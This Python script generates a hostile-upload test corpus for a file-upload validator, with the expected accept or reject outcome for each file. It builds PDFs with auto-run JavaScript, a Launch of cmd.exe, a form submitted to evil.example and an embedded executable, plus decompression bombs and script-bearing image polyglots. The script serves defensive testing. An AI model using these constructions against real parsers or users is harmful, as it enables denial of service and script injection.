"""
Write the hostile-upload corpus: small files an attacker (or a careless scanner) might upload.

    python tests/hostile/make_corpus.py          # (re)writes tests/hostile/corpus/ and manifest.json

Each entry names the file, what the upload check must do with it (``accept`` or the refusal
``reason`` of ``UploadRejected``) and why it is there. The files are committed so that CI runs
the very bytes reviewed here; every one is a few kilobytes (bombs are compressed or only declare
their size). Nothing here needs the project: pypdf, Pillow and zlib build it.
"""

from __future__ import annotations

import io
import json
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "corpus"

# --- a tiny PDF writer: exact control over every object of a hostile file ------------------------------


def pdf(objects: list[bytes], *, root: int = 1, trailer_extra: bytes = b"", version: bytes = b"1.7") -> bytes:
    """A PDF of ``objects`` (object n is ``objects[n-1]``), with a correct xref table and trailer."""
    out = io.BytesIO()
    out.write(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R " % (len(objects) + 1, root) + trailer_extra + b">>\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def stream(data: bytes, extra: bytes = b"", *, compress: int = 0) -> bytes:
    """A stream object's body; ``compress`` layers of Flate."""
    filters = b""
    for _ in range(compress):
        data = zlib.compress(data, 9)
    if compress:
        filters = b"/Filter [" + b" /FlateDecode" * compress + b" ] "
    return b"<< /Length %d " % len(data) + filters + extra + b">>\nstream\n" + data + b"\nendstream"


TEXT = b"BT /F1 18 Tf 72 720 Td (Surat keterangan) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def simple_pdf(
    *, catalog_extra: bytes = b"", page_extra: bytes = b"", extra_objects: list[bytes] | None = None
) -> bytes:
    """One page with one line of text; objects 1-5 are catalog, pages, page, content, font."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
        stream(TEXT),
        FONT,
    ]
    return pdf(objects + (extra_objects or []))


def reportlab_pdf() -> bytes:
    """A real multi-page PDF as office software writes it (compressed streams, fonts, an image)."""
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    page = canvas.Canvas(out, pagesize=A4, invariant=1, pageCompression=1)
    for n in range(3):
        page.setFont("Helvetica", 12)
        page.drawString(72, 760, f"Surat Tanda Registrasi (STR) halaman {n + 1}")
        page.rect(72, 600, 200, 100)
        page.linkURL("https://example.go.id/", (72, 580, 200, 595))
        page.showPage()
    page.save()
    return out.getvalue()


def encrypted_pdf(*, user_password: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(simple_pdf())))
    writer.encrypt(user_password=user_password, owner_password="pemilik", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def zip_bytes(payload: str = "<html><script>alert(document.cookie)</script></html>") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("payload.bin", date_time=(2026, 1, 1, 0, 0, 0)), payload)
    return out.getvalue()


def double_flate_zeros(size: int) -> bytes:
    """A stream body of ``size`` zero bytes behind two Flate layers, built without holding them."""
    inner = zlib.compressobj(9)
    block = b"\x00" * (1024 * 1024)
    layer = b"".join(inner.compress(block) for _ in range(size // len(block))) + inner.flush()
    data = zlib.compress(layer, 9)
    return b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(data) + data + b"\nendstream"


def deep_page_tree(depth: int) -> bytes:
    """Page-tree nodes nested ``depth`` deep above one page (a parser-stack bomb)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        number = level + 2
        objects.append(b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1))
    page = len(objects) + 1
    objects.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>" % (page - 1, page + 1))
    objects.append(stream(TEXT))
    return pdf(objects)


def cyclic_page_tree() -> bytes:
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
        ]
    )


def many_pages(count: int) -> bytes:
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    kids = b" ".join(b"%d 0 R" % (n + 4) for n in range(count))
    objects.append(b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count)
    objects.append(stream(TEXT))
    objects.extend(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>" for _ in range(count))
    return pdf(objects)


# --- images ---------------------------------------------------------------------------------------------


def pillow_image(fmt: str, *, mode: str = "RGB", size: tuple[int, int] = (120, 160), **save: object) -> bytes:
    from PIL import Image, ImageDraw

    image = Image.new(mode, size, "white" if mode != "P" else 0)
    draw = ImageDraw.Draw(image)
    draw.rectangle((20, 20, size[0] - 20, size[1] - 40), outline="black" if mode != "P" else 1, width=3)
    draw.ellipse((40, 30, size[0] - 40, 90), fill=(200, 150, 120) if mode in ("RGB", "RGBA") else 2)
    out = io.BytesIO()
    image.save(out, format=fmt, **save)
    return out.getvalue()


def jpeg_with_exif() -> bytes:
    from PIL import Image

    exif = Image.Exif()
    exif[0x010F] = "KameraPonsel"  # Make
    exif[0x0112] = 6  # Orientation: rotate 90° to view
    exif[0x8825] = {1: "S", 2: (0.0, 31.0, 12.0), 3: "E", 4: (101.0, 26.0, 45.0)}  # GPS: Pekanbaru
    return pillow_image("JPEG", exif=exif.tobytes(), quality=85)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_declaring(width: int, height: int, *, bit_depth: int = 1, color: int = 0, rows: bytes = b"") -> bytes:
    """A PNG whose header declares ``width`` × ``height``; ``rows`` is the (compressed) pixel data."""
    header = struct.pack(">IIBBBBB", width, height, bit_depth, color, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", rows or zlib.compress(b"\x00" * 64))
        + png_chunk(b"IEND", b"")
    )


def png_bomb_complete(side: int) -> bytes:
    """A complete, decodable 1-bit PNG of ``side`` × ``side`` white pixels, compressed to a few KB."""
    row = b"\x00" + b"\xff" * ((side + 7) // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    return png_declaring(side, side, rows=data)


def png_with_text(text: bytes) -> bytes:
    plain = pillow_image("PNG")
    at = plain.index(b"IDAT") - 4
    return plain[:at] + png_chunk(b"tEXt", b"Comment\x00" + text) + plain[at:]


def jpeg_with_comment(comment: bytes) -> bytes:
    plain = pillow_image("JPEG")
    return plain[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + plain[2:]


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose frame header (SOF0) is patched to declare ``width`` × ``height``."""
    data = bytearray(pillow_image("JPEG"))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>'

# --- the corpus -----------------------------------------------------------------------------------------

JS = b"<< /S /JavaScript /JS (app.alert\\('x'\\); this.exportDataObject\\({cName: 'a'}\\)) >>"

#: name → (build, expected: "accept" or the UploadRejected reason, why it is here)
ENTRIES: dict[str, tuple[Callable[[], bytes], str, str]] = {
    # legitimate files: accepted (and re-written)
    "legit-minimal.pdf": (simple_pdf, "accept", "a one-page PDF written by hand"),
    "legit-office.pdf": (reportlab_pdf, "accept", "a 3-page PDF as office software writes it, with a link"),
    "legit-owner-password.pdf": (
        lambda: encrypted_pdf(user_password=""),
        "accept",
        "restricted (owner password only) as official portals issue them: opened, stored unrestricted",
    ),
    "legit-goto-openaction.pdf": (
        lambda: simple_pdf(catalog_extra=b"/OpenAction [3 0 R /Fit] "),
        "accept",
        "opens at page 1 fitted: a destination, not an action",
    ),
    "legit-zip-in-unreferenced-object.pdf": (
        lambda: simple_pdf(extra_objects=[stream(zip_bytes())]),
        "accept",
        "an archive in an object no page uses: dropped when the pages are re-written",
    ),
    "legit.jpg": (lambda: pillow_image("JPEG", quality=85), "accept", "a small photo"),
    "legit.png": (lambda: pillow_image("PNG"), "accept", "a small scan"),
    "legit-rgba.png": (lambda: pillow_image("PNG", mode="RGBA"), "accept", "a PNG with transparency"),
    "legit-palette.png": (lambda: pillow_image("PNG", mode="P"), "accept", "a palette PNG"),
    "legit-grey.jpg": (lambda: pillow_image("JPEG", mode="L"), "accept", "a greyscale scan"),
    "dirty-exif-gps.jpg": (jpeg_with_exif, "accept", "camera make, rotation and GPS in EXIF: all removed"),
    "dirty-trailing-zip.jpg": (
        lambda: pillow_image("JPEG") + zip_bytes("data"),
        "accept",
        "a JPEG+ZIP polyglot: the archive is not in the re-encoded copy",
    ),
    # PDFs that act by themselves
    "pdf-js-openaction.pdf": (
        lambda: simple_pdf(catalog_extra=b"/OpenAction 6 0 R ", extra_objects=[JS]),
        "pdf_javascript",
        "JavaScript run when the file opens",
    ),
    "pdf-js-names.pdf": (
        lambda: simple_pdf(catalog_extra=b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >> ", extra_objects=[JS]),
        "pdf_javascript",
        "document-level JavaScript",
    ),
    "pdf-js-escaped-name.pdf": (
        lambda: simple_pdf(
            catalog_extra=b"/OpenAction 6 0 R ", extra_objects=[b"<< /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"]
        ),
        "pdf_javascript",
        "JavaScript behind #-escaped names (/J#53 = /JS)",
    ),
    "pdf-js-link.pdf": (
        lambda: simple_pdf(
            page_extra=b"/Annots [6 0 R] ",
            extra_objects=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 7 0 R >>", JS],
        ),
        "pdf_javascript",
        "JavaScript behind a page-sized link",
    ),
    "pdf-javascript-uri.pdf": (
        lambda: simple_pdf(
            page_extra=b"/Annots [6 0 R] ",
            extra_objects=[
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] "
                b"/A << /S /URI /URI (javascript:alert\\(document.cookie\\)) >> >>"
            ],
        ),
        "pdf_javascript",
        "a link to a javascript: address",
    ),
    "pdf-page-aa.pdf": (
        lambda: simple_pdf(page_extra=b"/AA << /O 6 0 R >> ", extra_objects=[JS]),
        "pdf_auto_action",
        "an action run when the page opens",
    ),
    "pdf-launch.pdf": (
        lambda: simple_pdf(catalog_extra=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> "),
        "pdf_launch",
        "starts a program",
    ),
    "pdf-submitform.pdf": (
        lambda: simple_pdf(
            page_extra=b"/Annots [6 0 R] ",
            extra_objects=[
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://evil.example/) >> >>"
            ],
        ),
        "pdf_submit_form",
        "sends the form to another server",
    ),
    "pdf-embedded-file.pdf": (
        lambda: simple_pdf(
            catalog_extra=b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> ",
            extra_objects=[b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", stream(b"MZ\x90\x00")],
        ),
        "pdf_embedded_file",
        "an executable attached inside",
    ),
    "pdf-file-attachment-annot.pdf": (
        lambda: simple_pdf(
            page_extra=b"/Annots [6 0 R] ",
            extra_objects=[
                b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (x.html) >> >>"
            ],
        ),
        "pdf_embedded_file",
        "an attachment pinned to the page",
    ),
    "pdf-richmedia.pdf": (
        lambda: simple_pdf(
            page_extra=b"/Annots [6 0 R] ",
            extra_objects=[b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>"],
        ),
        "pdf_rich_media",
        "Flash/video content",
    ),
    "pdf-xfa.pdf": (
        lambda: simple_pdf(catalog_extra=b"/AcroForm << /Fields [] /XFA 6 0 R >> ", extra_objects=[stream(b"<xdp/>")]),
        "pdf_xfa",
        "an XFA form (scriptable)",
    ),
    "pdf-js-in-compressed-stream-dict.pdf": (
        lambda: simple_pdf(
            page_extra=b"/Thumb 6 0 R ",
            extra_objects=[stream(b"x", b"/AA << /O << /S /JavaScript /JS (1) >> >> ", compress=1)],
        ),
        "pdf_auto_action",
        "an automatic action hidden in a stream's dictionary",
    ),
    # damaged, truncated, polyglot
    "pdf-truncated.pdf": (lambda: reportlab_pdf()[: len(reportlab_pdf()) * 2 // 3], "pdf_truncated", "cut off"),
    "pdf-header-only.pdf": (lambda: b"%PDF-1.7\n", "pdf_truncated", "a header and nothing else"),
    "pdf-garbage.pdf": (lambda: b"%PDF-1.4\n" + b"\x00garbage" * 64 + b"\n%%EOF\n", "pdf_damaged", "no objects"),
    "pdf-zip-polyglot.pdf": (lambda: simple_pdf() + zip_bytes(), "pdf_trailing_data", "a PDF+ZIP polyglot"),
    "pdf-html-after-eof.pdf": (
        lambda: simple_pdf() + b"<html><script>alert(1)</script></html>",
        "pdf_trailing_data",
        "a PDF+HTML polyglot",
    ),
    "pdf-encrypted.pdf": (lambda: encrypted_pdf(user_password="rahasia"), "pdf_encrypted", "needs a password to open"),
    "pdf-no-pages.pdf": (
        lambda: pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]),
        "pdf_no_pages",
        "no page",
    ),
    # bombs
    "pdf-bomb-double-flate.pdf": (
        lambda: simple_pdf(page_extra=b"/Thumb 6 0 R ", extra_objects=[double_flate_zeros(1024 * 1024 * 1024)]),
        "pdf_bomb",
        "a 1 GiB stream in a few KB (Flate inside Flate)",
    ),
    "pdf-deep-page-tree.pdf": (lambda: deep_page_tree(200), "pdf_too_deep", "page tree 200 levels deep"),
    "pdf-cyclic-page-tree.pdf": (cyclic_page_tree, "pdf_damaged", "a page tree that loops"),
    "pdf-nested-arrays.pdf": (
        lambda: simple_pdf(page_extra=b"/Junk " + b"[" * 5000 + b"]" * 5000 + b" "),
        "pdf_damaged",
        "arrays nested 5000 deep (beyond what the parser reads)",
    ),
    "pdf-nested-dicts.pdf": (
        lambda: simple_pdf(page_extra=b"/Junk " + b"<< /A " * 100 + b"1" + b" >>" * 100 + b" "),
        "pdf_too_deep",
        "dictionaries nested 100 deep (limit 64)",
    ),
    "pdf-too-many-pages.pdf": (lambda: many_pages(301), "pdf_too_many_pages", "301 pages (limit 300)"),
    # images
    "png-40000x40000-header.png": (
        lambda: png_declaring(40000, 40000),
        "image_too_many_pixels",
        "declares 1.6 gigapixels; refused from the header, never decoded",
    ),
    "png-8000x8000-complete.png": (
        lambda: png_bomb_complete(8000),
        "image_too_many_pixels",
        "a complete 64-megapixel PNG in a few KB",
    ),
    "jpg-65000x65000-header.jpg": (
        lambda: jpeg_declaring(65000, 65000),
        "image_too_many_pixels",
        "a JPEG frame header declaring 4.2 gigapixels",
    ),
    "svg-behind-jpeg-header.jpg": (
        lambda: b"\xff\xd8\xff\xe0" + SVG,
        "image_markup",
        "SVG with script behind JPEG magic bytes",
    ),
    "jpg-html-in-comment.jpg": (
        lambda: jpeg_with_comment(b"<html><body><script>alert(document.cookie)</script></body></html>"),
        "image_markup",
        "a JPEG+HTML polyglot (HTML in a comment segment)",
    ),
    "png-script-in-text-chunk.png": (
        lambda: png_with_text(b"<script>alert(1)</script>"),
        "image_markup",
        "a script in a PNG text chunk",
    ),
    "jpg-truncated.jpg": (lambda: pillow_image("JPEG", size=(400, 400))[:900], "image_damaged", "cut off"),
    "png-truncated.png": (lambda: pillow_image("PNG", size=(400, 400))[:300], "image_damaged", "cut off"),
    "jpg-magic-only.jpg": (lambda: b"\xff\xd8\xff\xe0" + b"\x00" * 64, "image_damaged", "magic bytes, no image"),
    "png-bad-crc.png": (
        lambda: pillow_image("PNG")[:-5] + b"\x00" + pillow_image("PNG")[-4:],
        "accept",
        "a wrong checksum on IEND only: decoded and re-encoded (Pillow ignores IEND's CRC)",
    ),
    # other types
    "svg.svg": (lambda: SVG, "type", "SVG"),
    "page.html": (lambda: b"<!doctype html><script>alert(1)</script>", "type", "HTML"),
    "archive.zip": (zip_bytes, "type", "ZIP"),
    "program.exe": (lambda: b"MZ\x90\x00\x03" + b"\x00" * 60, "type", "a Windows program"),
    "image.gif": (lambda: pillow_image("GIF"), "type", "GIF is not among PDF/JPG/PNG"),
    "empty.pdf": (lambda: b"", "empty", "no bytes"),
}


def build() -> dict[str, dict[str, str]]:
    """Write every file and the manifest; return the manifest."""
    CORPUS.mkdir(exist_ok=True)
    for old in CORPUS.iterdir():
        old.unlink()
    manifest = {}
    for name, (make, expected, why) in ENTRIES.items():
        (CORPUS / name).write_bytes(make())
        manifest[name] = {"expected": expected, "why": why}
    (HERE / "manifest.json").write_text(json.dumps(manifest, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    return manifest


if __name__ == "__main__":
    written = build()
    total = sum((CORPUS / n).stat().st_size for n in written)
    sys.stdout.write(f"{len(written)} files, {total} bytes in {CORPUS}\n")
